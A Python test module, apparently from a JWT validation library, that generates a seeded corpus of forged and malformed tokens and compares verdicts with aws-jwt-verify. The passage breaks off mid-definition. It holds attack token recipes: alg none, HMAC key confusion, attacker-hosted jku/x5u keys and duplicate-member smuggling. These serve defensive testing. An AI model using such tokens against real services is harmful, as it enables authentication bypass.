"""Differential test on a generated corpus: over a thousand tokens covering every class of issue 7's attack list,
each verified by lambdas.validation and by npm aws-jwt-verify (the reference), each verdict stated by rule.

A token class names the issue item it covers, the verdict each side must reach (our TokenRejected code, the
reference's error class, or ACCEPT) and the rule that makes it so; its generator yields the variants (algorithms,
casings, key forms, values) from one seeded random source, so a failure names a class and a variant that the next
run generates again. Keys and ECDSA nonces are fresh each run; no rule here depends on them.

Where the two sides' verdicts differ, the class must be listed in INTENDED_DIFFERENCES with the reason (a
deliberate rule of ours, a different default, or a limit of aws-jwt-verify); a class that is listed there must
really differ, so the table cannot go stale. Where both accept, the Principal must read what the reference read.

Both sides read the real clock, so every time claim sits at least MARGIN seconds from an acceptance edge, and the
test fails loudly if the run took long enough to eat into that margin.

Figures (tokens, classes, agreements, intended differences) are printed by
    .venv/bin/python -m pytest tests/security/test_reference_corpus.py -q -s
"""
from __future__ import annotations

import base64
import itertools
import json
import random
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import Callable, Iterator

import pytest

from tests.support.reference_corpus import (ACCEPT, ALGS, ATTACKER, CLIENT_ID, COGNITO_KEY, ENC_KEY, GRACE, KEYS,
                                            POOL_ID, POOL_ISSUER, PSS_ALGS, PSS_KEYS, SETUPS, WEAK_KEY, cognito,
                                            cognito_access, cognito_id, ecdsa_der_signature, header_for,
                                            hmac_with_public_key, invalid_utf8, json_text, lone_surrogate,
                                            non_canonical_last_char, non_canonical_signature, our_verdict, padded,
                                            padded_segments, raw_payload, segment, signature_bytes, signed,
                                            spare_bits, with_signature)
from tests.support.reference_node import ReferenceVerifier, reference_available
from tests.support.tokens import AUDIENCE, ISSUER, SigningKey, b64url, mint

SEED = 7
MARGIN = 25            # seconds between every time claim and the nearest acceptance edge of either side
MINIMUM_TOKENS = 1000
EC_SIZES = {"ES256": 32, "ES384": 48, "ES512": 66}
# Curve orders (SEC 2, FIPS 186-4 D.1.2); ecdsa_high_s checks them: n - s verifies only with the true order.
EC_ORDERS = {
    "ES256": 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551,
    "ES384": 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973,
    "ES512": int("01FF" + "FFFFFFFF" * 7 + "FFFFFFFA51868783BF2F966B7FCC0148F709A5D03BB5C9B8899C47AEBB6FB71E91386409",
                 16),
}
ED25519_ORDER = 2 ** 252 + 27742317777372353535851937790883648493
BEYOND_THE_LIST = "beyond the issue's list"

# Issue 7's attack corpus, item by item. Every item must be covered by at least one generated class.
ISSUE_ITEMS = (
    "valid tokens", "algorithms RS/ES/EdDSA/PS", "alg none in every casing", "alg outside the allow-list",
    "HMAC confusion with the public key", "null signature", "truncated signature", "ECDSA r=s=0",
    "ECDSA r or s >= n", "ECDSA DER where P1363 is expected", "embedded jwk, jku, x5u, x5c",
    "kid path traversal, SQL, shell", "kid non-string, empty, huge", "unknown kid", "2 or 4+ segments",
    "empty segments", "JSON serialization", "whitespace", "padding", "non-base64url characters",
    "header not an object", "duplicate members", "unknown crit", "b64=false", "JWE where a JWS is expected",
    "non-UTF-8 JSON", "deep nesting", "huge numbers", "exp/nbf/iat missing", "exp/nbf/iat strings",
    "exp/nbf/iat floats", "exp/nbf/iat far future", "leeway boundary", "iss prefix, suffix, trailing slash",
    "aud missing", "aud wrong type", "aud untrusted extras", "ID token as access token", "access token as ID token",
    "Cognito id vs access token_use", "scope of the wrong type", "oversized tokens",
)

_NUMERIC_DATE_RANGE = ("NumericDates are bounded to 0 <= t < 2**53 (beyond it floats lose whole seconds, before 1970 "
                       "no issuer mints); aws-jwt-verify takes any finite number and reads iat not at all, so a "
                       "token with exp 1e20 never expires there")
_SIZE_BOUND = ("we bound the token (16 KiB) and its header (2 KiB) before any decoding (DoS); aws-jwt-verify has no "
               "size limit")
_DEFAULT_GRACE = "defaults: our leeway is 60 s (issue 2), aws-jwt-verify's graceSeconds is 0"
_TOKEN_USE = ("ID tokens never pass as access tokens, nor the reverse (OIDC Core 2, RFC 9068 2.1, typ and the "
              "nonce/at_hash/c_hash markers); aws-jwt-verify's generic verifier has no notion of token use")

# The one table of intended differences: class -> why the verdicts differ.
INTENDED_DIFFERENCES = {
    "pss_signatures": "aws-jwt-verify 5.2.1 supports no RSA-PSS (its supportedSignatureAlgorithms lists RS*, ES*, "
                      "EdDSA), so it refuses PS* even with a matching JWK",
    "alg_outside_issuer_allow_list": "we hold each issuer to its configured algorithms (RFC 8725 3.1); aws-jwt-verify "
                                     "has no allow-list and accepts any supported alg that matches the JWK's alg",
    "exp_missing": "we require exp by default (issue 2, RFC 8725 spirit: a token must expire); aws-jwt-verify checks "
                   "exp only when present",
    "sub_missing": "every Principal names its subject, so we require sub; aws-jwt-verify does not",
    "iat_in_future_beyond_leeway": "we bound iat by the leeway (a token minted by a clock far ahead); aws-jwt-verify "
                                   "does not read iat",
    "kid_missing_single_candidate": "without kid we use the one key that can verify the alg, when exactly one can "
                                    "(validation README); aws-jwt-verify requires kid whenever it holds a JWKS",
    "kid_of_weak_rsa_key": "RFC 7518 3.3: RSA keys must be at least 2048 bits, so we skip the 1024-bit key when "
                           "loading the JWKS; aws-jwt-verify uses any RSA key",
    "expired_within_our_default_leeway": _DEFAULT_GRACE,
    "nbf_within_our_default_leeway": _DEFAULT_GRACE,
    "id_token_as_access_token": _TOKEN_USE,
    "access_token_as_id_token": _TOKEN_USE,
    "typ_not_a_bearer_token": "explicit typing (RFC 8725 3.11): a logout, SET or DPoP proof JWT is no bearer token; "
                              "aws-jwt-verify ignores typ",
    "crit_unknown": "RFC 7515 4.1.11: a recipient MUST reject a JWS whose crit lists an extension it does not "
                    "understand (or is not a non-empty array of names); aws-jwt-verify ignores crit",
    "b64_false": "RFC 7797: b64 false changes what the signature covers; we refuse rather than misread, "
                 "aws-jwt-verify ignores b64 (these tokens are signed over the encoded payload, so it accepts)",
    "duplicate_members_last_valid": "RFC 7515 5.2 / RFC 8259 4: duplicate member names are ambiguous (first-wins and "
                                    "last-wins parsers disagree); we refuse them, JSON.parse keeps the last",
    "padded_base64url": "RFC 7515 2: base64url without padding; aws-jwt-verify's regex and Node's decoder allow '='",
    "non_canonical_trailing_bits": "strict base64url: two spellings of one token would make tokens malleable "
                                   "(replay and verified-token caches key on the string); Node drops unused bits",
    "payload_invalid_utf8": "RFC 7519 7.2: header and claims are UTF-8; Node decodes invalid bytes to U+FFFD",
    "payload_lone_surrogate": "RFC 8259 8.2: an unpaired surrogate is no Unicode string; JSON.parse accepts it",
    "payload_nesting_beyond_our_limit": "we refuse JSON nested more than 32 levels deep (real claims nest 3 or 4; the "
                                        "bound keeps every reader of the claims far from a recursion limit); V8 "
                                        "parses until its stack runs out (a few thousand)",
    "numeric_date_beyond_2_pow_53": _NUMERIC_DATE_RANGE,
    "nbf_or_iat_negative": _NUMERIC_DATE_RANGE,
    "huge_integer_in_unread_claim": "we keep CPython's bound on integer literals (4300 digits, the guard against "
                                    "quadratic int parsing, CVE-2020-10735); JSON.parse reads them as Infinity",
    "scope_as_array": "RFC 9068 2.2.3 defines scope as a space-separated string, which aws-jwt-verify insists on; "
                      "we also read an array of strings, as some authorization servers emit it (each element one "
                      "scope, never split, so an array cannot smuggle extra scopes)",
    "cognito_id_aud_array": "RFC 7519 4.1.3: aud may be an array and we apply any-of to every issuer; aws-jwt-verify "
                            "requires a Cognito ID token's aud to be one string (Cognito never issues arrays)",
    "token_too_large": _SIZE_BOUND,
    "header_too_large": _SIZE_BOUND,
}


@dataclass(frozen=True)
class TokenClass:
    name: str
    covers: str                 # an ISSUE_ITEMS entry, or BEYOND_THE_LIST
    ours: str                   # ACCEPT or our TokenRejected code
    reference: str              # ACCEPT or aws-jwt-verify's error class name
    rule: str                   # why each side reaches its verdict
    make: Callable[[random.Random, int], Iterator[tuple[str, str, str]]]   # -> (variant, setup name, token)

    @property
    def differs(self) -> bool:
        return (self.ours == ACCEPT) != (self.reference == ACCEPT)


@dataclass(frozen=True)
class CorpusToken:
    token_class: str
    variant: str
    setup: str
    token: str = field(repr=False)   # failure output names the class and variant, never the token
    ours: str                   # the class's verdicts, carried with each token
    reference: str

    @property
    def label(self) -> str:
        return f"{self.token_class}[{self.variant}]"


CLASSES: dict[str, TokenClass] = {}


def token_class(name: str, covers: str, ours: str, reference: str, rule: str):
    assert covers in ISSUE_ITEMS or covers == BEYOND_THE_LIST, f"{name}: unknown issue item {covers!r}"

    def register(make):
        assert name not in CLASSES, f"class {name} registered twice"
        CLASSES[name] = TokenClass(name, covers, ours, reference, rule, make)
        return make
    return register


def generate_corpus(seed: int, now: int) -> list[CorpusToken]:
    rng = random.Random(seed)
    corpus = []
    for cls in CLASSES.values():
        for variant, setup, token in cls.make(rng, now):
            corpus.append(CorpusToken(cls.name, variant, setup, token, cls.ours, cls.reference))
    return corpus


# --- random but valid material ----------------------------------------------------------------------------------------

SCOPE_WORDS = ("orders:write", "billing:read", "profile", "email", "admin:all", "reports")
SUBJECTS = ("alice@example.test", "Jos\u00e9 \u00d1\u00fa\u00f1ez", "\u7528\u6237-42", "svc:worker/1",
            "\U0001F600-emoji", "a", "CN=svc,O=Example")


def subject(rng: random.Random) -> str:
    return rng.choice([f"user-{rng.randrange(10 ** 6)}", f"{rng.getrandbits(128):032x}", rng.choice(SUBJECTS)])


def scope_string(rng: random.Random, *, including: str | None = None) -> str:
    words = rng.sample(SCOPE_WORDS, rng.randint(0 if including else 1, 3)) + ([including] if including else [])
    rng.shuffle(words)
    return (" " * rng.choice((1, 1, 1, 2))).join(words)


def valid_claims(rng: random.Random, now: int, **overrides) -> dict:
    """A generic access token that both sides accept: times well inside every edge, a random subject and scopes."""
    iat = now - rng.randint(0, 3600)
    body = {"iss": ISSUER, "sub": subject(rng), "aud": AUDIENCE, "iat": iat, "nbf": iat,
            "exp": now + rng.randint(GRACE + MARGIN, 86400), "jti": f"j-{rng.getrandbits(48):x}",
            "scope": scope_string(rng)}
    if rng.random() < 0.3:
        body["groups"] = rng.sample(("staff", "admins", "support"), rng.randint(0, 3))
    body.update(overrides)
    return {k: v for k, v in body.items() if v is not None}


def any_key(rng: random.Random) -> SigningKey:
    return KEYS[rng.choice(ALGS)]


def with_member(body: dict, text: str) -> bytes:
    """The claims set's JSON text with one more member written verbatim (null, 1e400, a duplicate ...)."""
    return (json_text(body)[:-1] + ("," if body else "") + text + "}").encode()


def attacker_for(alg: str, kid: str) -> SigningKey:
    """A key of the same type as `alg`, not the issuer's, presenting `kid`."""
    if alg.startswith("RS"):
        return SigningKey(alg=alg, private_key=ATTACKER.private_key, kid=kid)
    return SigningKey.generate(alg, kid=kid)


def cognito_access_claims(rng: random.Random, now: int, **overrides) -> dict:
    groups = rng.sample(("admins", "users", "support", "beta"), rng.randint(0, 3))
    body = cognito_access(now, sub=f"{rng.getrandbits(128):032x}", username=rng.choice(SUBJECTS),
                          scope=rng.choice(("aws.cognito.signin.user.admin", "orders/read orders/write", "openid")),
                          exp=now + rng.randint(GRACE + MARGIN, 3600), jti=f"j-{rng.getrandbits(48):x}",
                          **{"cognito:groups": groups or None})
    body.update(overrides)
    return {k: v for k, v in body.items() if v is not None}


def cognito_id_claims(rng: random.Random, now: int, **overrides) -> dict:
    body = cognito_id(now, sub=f"{rng.getrandbits(128):032x}", exp=now + rng.randint(GRACE + MARGIN, 3600),
                      **{"cognito:username": rng.choice(SUBJECTS)})
    body.update(overrides)
    return {k: v for k, v in body.items() if v is not None}


GLOBAL_POOL_ISSUER = POOL_ISSUER.replace("https://cognito-idp.", "https://issuer-cognito-idp.")

# === valid tokens: both accept ========================================================================================


@token_class("valid_access_token", "valid tokens", ACCEPT, ACCEPT,
             "a well-formed token signed by the issuer's key, inside every time bound, for our audience")
def _valid(rng, now):
    for alg, i in itertools.product(ALGS, range(16)):
        yield f"{alg}#{i}", "generic", mint(KEYS[alg], valid_claims(rng, now))


@token_class("valid_aud_with_untrusted_extras", "aud untrusted extras", ACCEPT, ACCEPT,
             "aud is any-of on both sides (RFC 7519 4.1.3): extra audiences beside ours do not matter")
def _aud_extras(rng, now):
    for alg, i in itertools.product(ALGS, range(3)):
        aud = [AUDIENCE] + rng.sample(("billing-api", "https://evil.example", "x", "orders-api-2"), rng.randint(1, 3))
        rng.shuffle(aud)
        yield f"{alg}:{aud}", "generic", mint(KEYS[alg], valid_claims(rng, now, aud=aud))


@token_class("typ_access_or_jwt", "valid tokens", ACCEPT, ACCEPT,
             "typ at+jwt, JWT (any case, with or without application/) or none is a bearer access token")
def _typ_ok(rng, now):
    for typ in ("at+jwt", "application/at+jwt", "AT+JWT", "JWT", "jwt", "application/jwt", None):
        for _ in range(2):
            yield f"typ={typ}", "generic", mint(any_key(rng), valid_claims(rng, now), typ=typ)


@token_class("optional_claims_absent", "exp/nbf/iat missing", ACCEPT, ACCEPT,
             "nbf, iat, jti and scope are optional on both sides")
def _optional_absent(rng, now):
    for alg in ALGS:
        for absent in (("nbf",), ("iat",), ("nbf", "iat", "jti", "scope")):
            yield f"{alg}-{'-'.join(absent)}", "generic", mint(KEYS[alg], valid_claims(
                rng, now, **{name: None for name in absent}))


@token_class("ecdsa_high_s", "ECDSA r or s >= n", ACCEPT, ACCEPT,
             "(r, n - s) is as valid an ECDSA signature as (r, s): JOSE demands no low-S form, so both accept")
def _high_s(rng, now):
    for alg, i in itertools.product(EC_SIZES, range(4)):
        size, n = EC_SIZES[alg], EC_ORDERS[alg]
        token = mint(KEYS[alg], valid_claims(rng, now))
        raw = signature_bytes(token)
        s = int.from_bytes(raw[size:], "big")
        yield f"{alg}#{i}", "generic", with_signature(token, raw[:size] + (n - s).to_bytes(size, "big"))


@token_class("token_supplied_key_ignored", "embedded jwk, jku, x5u, x5c", ACCEPT, ACCEPT,
             "keys come only from the issuer's JWKS; jwk/jku/x5u/x5c in the header are ignored by both")
def _supplied_ignored(rng, now):
    for member, i in itertools.product(("jwk", "jku", "x5u", "x5c"), range(3)):
        key = any_key(rng)
        value = {"jwk": ATTACKER.jwk(), "jku": "https://attacker.example/jwks.json",
                 "x5u": "https://attacker.example/cert.pem", "x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"]}[member]
        yield f"{member}-{key.alg}", "generic", mint(key, valid_claims(rng, now), header={member: value})


@token_class("payload_moderate_nesting", "deep nesting", ACCEPT, ACCEPT,
             "nesting far below both parsers' limits is ordinary JSON")
def _moderate_nesting(rng, now):
    for depth in (2, 10, 20, 31):  # inside the claims object: 31 arrays make 32 levels, our bound
        nested = "[" * depth + "1" + "]" * depth
        yield f"depth={depth}", "generic", raw_payload(KEYS["RS256"], with_member(valid_claims(rng, now),
                                                                                 f'"x":{nested}'))


@token_class("token_near_size_limit", "oversized tokens", ACCEPT, ACCEPT,
             "a token just under our 16 KiB bound is accepted like any other")
def _near_limit(rng, now):
    for alg in ("RS512", "ES512", "EdDSA", "RS256"):
        target = rng.randint(15500, 16384)
        blob = target
        while True:
            token = mint(KEYS[alg], valid_claims(rng, now, blob="x" * blob, sub="big", scope="orders:write"))
            if len(token) <= 16384:
                break
            blob -= (len(token) - target) * 3 // 4 + 1
        yield f"{alg}:{len(token)}", "generic", token


@token_class("unicode_claims", "non-UTF-8 JSON", ACCEPT, ACCEPT,
             "valid UTF-8, raw or as \\u escapes (surrogate pairs included), decodes to the same strings on both")
def _unicode(rng, now):
    for text in SUBJECTS + ("\u00e9\u0301", "\U0001F469\u200D\U0001F4BB", "\u202eevil"):
        key = any_key(rng)
        body = valid_claims(rng, now, sub=text, name=text)
        raw = rng.choice((True, False))  # raw UTF-8 bytes, or the \u escapes json.dumps writes
        payload = json.dumps(body, separators=(",", ":"), ensure_ascii=not raw).encode("utf-8")
        yield f"{text!a}-{'raw' if raw else 'escaped'}", "generic", raw_payload(key, payload)


@token_class("time_claims_fractional", "exp/nbf/iat floats", ACCEPT, ACCEPT,
             "NumericDate may be fractional (RFC 7519 2); both compare it as a number")
def _fractional(rng, now):
    for alg in ALGS:
        frac = rng.choice((0.5, 0.25, 0.125, 0.75))
        iat = now - rng.randint(1, 600) - frac
        yield f"{alg}+{frac}", "generic", mint(KEYS[alg], valid_claims(
            rng, now, exp=now + rng.randint(GRACE + MARGIN, 3600) + frac, iat=iat, nbf=iat))


@token_class("exp_far_future", "exp/nbf/iat far future", ACCEPT, ACCEPT,
             "neither side caps a token's lifetime; exp up to 2**53 - 1 is a valid NumericDate")
def _exp_far(rng, now):
    for exp in (now + 10 ** 6, now + 10 ** 8, now + 10 ** 9, 2 ** 40, 2 ** 53 - 1, 4102444800):
        yield f"exp={exp}", "generic", mint(any_key(rng), valid_claims(rng, now, exp=exp))


@token_class("exp_within_leeway", "leeway boundary", ACCEPT, ACCEPT,
             f"exp 1..{GRACE - MARGIN} s ago is inside the 60 s leeway / graceSeconds of both")
def _exp_inside(rng, now):
    for alg in ALGS:
        exp = now - rng.randint(1, GRACE - MARGIN)
        yield f"{alg}:exp=now-{now - exp}", "generic", mint(KEYS[alg], valid_claims(rng, now, exp=exp, iat=exp - 600,
                                                                                   nbf=exp - 600))


@token_class("nbf_within_leeway", "leeway boundary", ACCEPT, ACCEPT,
             f"nbf 1..{GRACE - MARGIN} s ahead is inside the leeway / graceSeconds of both")
def _nbf_inside(rng, now):
    for alg in ALGS:
        nbf = now + rng.randint(1, GRACE - MARGIN)
        yield f"{alg}:nbf=now+{nbf - now}", "generic", mint(KEYS[alg], valid_claims(rng, now, nbf=nbf, iat=now))


@token_class("iat_within_leeway", "leeway boundary", ACCEPT, ACCEPT,
             f"iat 1..{GRACE - MARGIN} s ahead is inside our leeway; aws-jwt-verify does not read iat")
def _iat_inside(rng, now):
    for alg in ALGS:
        iat = now + rng.randint(1, GRACE - MARGIN)
        yield f"{alg}:iat=now+{iat - now}", "generic", mint(KEYS[alg], valid_claims(rng, now, iat=iat, nbf=None))


@token_class("id_token_on_id_issuer", "access token as ID token", ACCEPT, ACCEPT,
             "an ID token (nonce, typ JWT) where the issuer is configured for ID tokens")
def _id_ok(rng, now):
    for alg in rng.sample(ALGS, 6):
        yield alg, "generic_id", mint(KEYS[alg], valid_claims(rng, now, nonce=f"n-{rng.getrandbits(32)}"), typ="JWT")


@token_class("scope_granted", "valid tokens", ACCEPT, ACCEPT,
             "the required scope orders:read is one of the space-separated scope-tokens (RFC 6749 3.3)")
def _scope_ok(rng, now):
    for alg, i in itertools.product(ALGS, range(2)):
        scope = scope_string(rng, including="orders:read")
        yield f"{alg}:{scope!r}", "generic_scope", mint(KEYS[alg], valid_claims(rng, now, scope=scope))


@token_class("cognito_access_valid", "Cognito id vs access token_use", ACCEPT, ACCEPT,
             "a Cognito access token (token_use access, client_id ours) in either issuer spelling of the pool")
def _cognito_access_ok(rng, now):
    for i in range(20):
        iss = POOL_ISSUER if i % 2 else GLOBAL_POOL_ISSUER
        yield f"#{i}:{iss.split('//')[1].split('.')[0]}", "cognito_access", cognito(
            cognito_access_claims(rng, now, iss=iss))


@token_class("cognito_id_valid", "Cognito id vs access token_use", ACCEPT, ACCEPT,
             "a Cognito ID token (token_use id, aud ours) where ID tokens are configured")
def _cognito_id_ok(rng, now):
    for i in range(12):
        yield f"#{i}", "cognito_id", cognito(cognito_id_claims(
            rng, now, iss=POOL_ISSUER if i % 3 else GLOBAL_POOL_ISSUER))


@token_class("cognito_in_required_group", "Cognito id vs access token_use", ACCEPT, ACCEPT,
             "cognito:groups includes the required group admins")
def _cognito_group_ok(rng, now):
    for i in range(8):
        groups = ["admins"] + rng.sample(("users", "support", "beta"), rng.randint(0, 3))
        rng.shuffle(groups)
        yield f"{groups}", "cognito_admins", cognito(cognito_access_claims(rng, now, **{"cognito:groups": groups}))


# === intended differences: exactly one side accepts ===================================================================


@token_class("pss_signatures", "algorithms RS/ES/EdDSA/PS", ACCEPT, "JwtInvalidSignatureAlgorithmError",
             "PS256/384/512 are in our allow-list for this issuer; aws-jwt-verify does not implement RSA-PSS")
def _pss(rng, now):
    for alg, i in itertools.product(PSS_ALGS, range(4)):
        yield f"{alg}#{i}", "generic_pss", mint(PSS_KEYS[alg], valid_claims(rng, now))


@token_class("alg_outside_issuer_allow_list", "alg outside the allow-list", "alg_not_allowed", ACCEPT,
             "the issuer allows RS256 only; aws-jwt-verify checks the alg against the JWK's alg, which matches")
def _allow_list(rng, now):
    for alg, i in itertools.product(ALGS[1:], range(2)):
        yield f"{alg}#{i}", "generic_rs256_only", mint(KEYS[alg], valid_claims(rng, now))


@token_class("exp_missing", "exp/nbf/iat missing", "missing_claim", ACCEPT, "we require exp; the reference does not")
def _exp_missing(rng, now):
    for alg in ALGS:
        yield alg, "generic", mint(KEYS[alg], valid_claims(rng, now, exp=None))


@token_class("sub_missing", BEYOND_THE_LIST, "missing_claim", ACCEPT, "we require sub; the reference does not")
def _sub_missing(rng, now):
    for alg in rng.sample(ALGS, 4):
        yield alg, "generic", mint(KEYS[alg], valid_claims(rng, now, sub=None))


@token_class("iat_in_future_beyond_leeway", "exp/nbf/iat far future", "issued_in_future", ACCEPT,
             f"iat more than {GRACE + MARGIN} s ahead is beyond our leeway; aws-jwt-verify does not read iat")
def _iat_future(rng, now):
    for alg in ALGS:
        iat = now + rng.choice((rng.randint(GRACE + MARGIN, GRACE + MARGIN + 120), rng.randint(10 ** 6, 10 ** 9)))
        yield f"{alg}:iat=now+{iat - now}", "generic", mint(KEYS[alg], valid_claims(rng, now, iat=iat, nbf=None))


@token_class("time_claim_null", "exp/nbf/iat missing", "malformed", "JwtParseError",
             "nbf or iat null: not a NumericDate, and null is not the same as leaving the claim out")
def _time_null(rng, now):
    for name, i in itertools.product(("nbf", "iat"), range(3)):
        key = any_key(rng)
        yield f"{name}-{key.alg}", "generic", raw_payload(key, with_member(valid_claims(rng, now, **{name: None}),
                                                                           f'"{name}":null'))


@token_class("kid_null", "kid non-string, empty, huge", "malformed", "JwtParseError",
             "kid null: not a string (RFC 7515 4.1.4), so not read as an absent kid by either side")
def _kid_null(rng, now):
    for alg in ALGS:
        key = KEYS[alg]
        header = json_text({"alg": alg, "kid": None, "typ": "at+jwt"})
        yield alg, "generic", signed(key, b64url(header.encode()), segment(valid_claims(rng, now)))


@token_class("kid_missing_single_candidate", "unknown kid", ACCEPT, "JwtWithoutValidKidError",
             "no kid: exactly one key in the JWKS verifies each alg, so we use it; aws-jwt-verify needs a kid")
def _kid_missing(rng, now):
    for alg in ALGS:
        yield alg, "generic", mint(KEYS[alg], valid_claims(rng, now), header={"kid": None})


@token_class("kid_of_weak_rsa_key", "unknown kid", "unknown_kid", ACCEPT,
             "the 1024-bit key was skipped when we loaded the JWKS; aws-jwt-verify uses it")
def _weak_key(rng, now):
    for alg in ("RS256", "RS256", "RS256"):
        yield alg, "generic", mint(WEAK_KEY, valid_claims(rng, now))


@token_class("expired_within_our_default_leeway", "leeway boundary", ACCEPT, "JwtExpiredError",
             f"exp {MARGIN}..{GRACE - MARGIN} s ago: inside our default 60 s leeway, past aws-jwt-verify's default 0 s")
def _default_grace_exp(rng, now):
    for alg in rng.sample(ALGS, 5):
        exp = now - rng.randint(MARGIN, GRACE - MARGIN)
        yield f"{alg}:exp=now-{now - exp}", "generic_default_grace", mint(KEYS[alg], valid_claims(
            rng, now, exp=exp, iat=exp - 600, nbf=exp - 600))


@token_class("nbf_within_our_default_leeway", "leeway boundary", ACCEPT, "JwtNotBeforeError",
             f"nbf {MARGIN}..{GRACE - MARGIN} s ahead: inside our default leeway, beyond aws-jwt-verify's default 0 s")
def _default_grace_nbf(rng, now):
    for alg in rng.sample(ALGS, 4):
        nbf = now + rng.randint(MARGIN, GRACE - MARGIN)
        yield f"{alg}:nbf=now+{nbf - now}", "generic_default_grace", mint(KEYS[alg], valid_claims(
            rng, now, nbf=nbf, iat=now - 10))


@token_class("id_token_as_access_token", "ID token as access token", "wrong_token_use", ACCEPT,
             "nonce, at_hash or c_hash (without typ at+jwt) mark an OIDC ID token; the issuer accepts access tokens")
def _id_as_access(rng, now):
    for marker, typ in itertools.product(("nonce", "at_hash", "c_hash"), ("JWT", None)):
        for _ in range(2):
            key = any_key(rng)
            yield f"{marker}-typ={typ}-{key.alg}", "generic", mint(key, valid_claims(
                rng, now, **{marker: f"v-{rng.getrandbits(32):x}"}), typ=typ)


@token_class("access_token_as_id_token", "access token as ID token", "wrong_token_use", ACCEPT,
             "typ at+jwt marks an access token (RFC 9068 2.1); the issuer is configured for ID tokens")
def _access_as_id(rng, now):
    for alg in rng.sample(ALGS, 6):
        yield alg, "generic_id", mint(KEYS[alg], valid_claims(rng, now))


@token_class("typ_not_a_bearer_token", "ID token as access token", "wrong_typ", ACCEPT,
             "typ names another kind of JWT (logout, security event, DPoP proof, JWK, JOSE)")
def _typ_other(rng, now):
    for typ in ("logout+jwt", "secevent+jwt", "dpop+jwt", "application/jwk+json", "JOSE", "id_token+jwt"):
        yield typ, "generic", mint(any_key(rng), valid_claims(rng, now), typ=typ)


@token_class("crit_unknown", "unknown crit", "malformed", ACCEPT,
             "crit lists an extension we do not implement, or is not a non-empty array of names")
def _crit(rng, now):
    variants = ((["urn:example:ext"], {"urn:example:ext": 1}), (["exp"], {}), (["b64"], {"b64": True}), ([], {}),
                ("exp", {}), ([1], {}), (["kid"], {}), (["urn:a", "urn:b"], {"urn:a": 1, "urn:b": 2}))
    for crit, extra in variants:
        key = any_key(rng)
        yield f"{crit}-{key.alg}", "generic", mint(key, valid_claims(rng, now), header={"crit": crit, **extra})


@token_class("b64_false", "b64=false", "malformed", ACCEPT,
             "b64 other than true (RFC 7797 unencoded payload), with or without crit; signed over the encoded payload")
def _b64(rng, now):
    for extra in ({"b64": False}, {"b64": False, "crit": ["b64"]}, {"b64": "false"}, {"b64": 0}):
        key = any_key(rng)
        yield f"{extra}-{key.alg}", "generic", mint(key, valid_claims(rng, now), header=extra)


@token_class("duplicate_members_last_valid", "duplicate members", "malformed", ACCEPT,
             "a member appears twice, the last value valid: we refuse duplicates, JSON.parse keeps the last")
def _dup_valid(rng, now):
    for alg in ALGS:
        key = KEYS[alg]
        header = json_text({"alg": alg, "kid": key.kid, "typ": "at+jwt"})
        first = rng.choice(('"alg":"none",', '"kid":"attacker",', '"typ":"logout+jwt",'))
        yield f"header-{first[1:4]}-{alg}", "generic", signed(key, b64url(("{" + first + header[1:]).encode()),
                                                              segment(valid_claims(rng, now)))
    for name, first in (("aud", '"evil-api"'), ("iss", '"https://evil.example"'), ("sub", '"admin"'),
                        ("exp", "1"), ("scope", '"admin:all"')):
        key = any_key(rng)
        text = json_text(valid_claims(rng, now))
        yield f"claims-{name}-{key.alg}", "generic", raw_payload(key, ("{" + f'"{name}":{first},' + text[1:]).encode())


@token_class("padded_base64url", "padding", "malformed", ACCEPT,
             "'=' padding on a segment (signed over the padded text where it is in the signing input)")
def _padding(rng, now):
    for alg in ALGS:
        key = KEYS[alg]
        yield f"header-payload-{alg}", "generic", padded_segments(key, valid_claims(rng, now))
        head, sig = mint(key, valid_claims(rng, now)).rsplit(".", 1)
        if len(sig) % 4:
            yield f"signature-{alg}", "generic", f"{head}.{padded(sig)}"


@token_class("non_canonical_trailing_bits", BEYOND_THE_LIST, "malformed", ACCEPT,
             "the last character of a segment has an unused low bit set: same bytes, another string")
def _non_canonical(rng, now):
    for alg in ("RS256", "RS384", "RS512", "ES256", "EdDSA"):  # signature lengths that leave unused bits
        yield f"signature-{alg}", "generic", non_canonical_signature(mint(KEYS[alg], valid_claims(rng, now)))
    for alg in rng.sample(ALGS, 4):
        body = valid_claims(rng, now)
        while not spare_bits(segment(body)):
            body["pad"] = body.get("pad", "") + "p"
        yield f"payload-{alg}", "generic", signed(KEYS[alg], segment(header_for(KEYS[alg])),
                                                  non_canonical_last_char(segment(body)))


@token_class("payload_invalid_utf8", "non-UTF-8 JSON", "malformed", ACCEPT,
             "a Latin-1 byte in the claims or in an unread header member")
def _bad_utf8(rng, now):
    for alg in rng.sample(ALGS, 4):
        yield f"claims-{alg}", "generic", raw_payload(KEYS[alg], invalid_utf8(valid_claims(rng, now)))
    for alg in rng.sample(ALGS, 2):
        header = json_text(header_for(KEYS[alg])).encode()[:-1] + b',"x":"caf\xe9"}'
        yield f"header-{alg}", "generic", signed(KEYS[alg], b64url(header), segment(valid_claims(rng, now)))


@token_class("payload_lone_surrogate", "non-UTF-8 JSON", "malformed", ACCEPT,
             "an escaped unpaired UTF-16 surrogate in the claims")
def _surrogate(rng, now):
    for alg in rng.sample(ALGS, 4):
        yield alg, "generic", raw_payload(KEYS[alg], lone_surrogate(valid_claims(rng, now)))


@token_class("payload_nesting_beyond_our_limit", "deep nesting", "malformed", ACCEPT,
             "arrays nested 32..1600 deep: beyond our 32-level bound, within V8's stack")
def _deep_ours(rng, now):
    for depth in (32, 200, rng.randint(900, 1100), rng.randint(1200, 1600)):
        nested = "[" * depth + "]" * depth
        yield f"depth={depth}", "generic", raw_payload(any_key(rng), with_member(valid_claims(rng, now),
                                                                                f'"x":{nested}'))


@token_class("numeric_date_beyond_2_pow_53", "huge numbers", "malformed", ACCEPT,
             "exp or iat at or beyond 2**53: out of our NumericDate range; a never-expiring exp to aws-jwt-verify")
def _beyond_2_53(rng, now):
    for name, value in (("exp", 2 ** 53), ("exp", 10 ** 16), ("exp", 10 ** 20), ("exp", 1e300), ("iat", 2 ** 53),
                        ("iat", 10 ** 20)):
        overrides = {name: value, "nbf": None} if name == "iat" else {name: value}
        yield f"{name}={value}", "generic", mint(any_key(rng), valid_claims(rng, now, **overrides))


@token_class("nbf_or_iat_negative", BEYOND_THE_LIST, "malformed", ACCEPT,
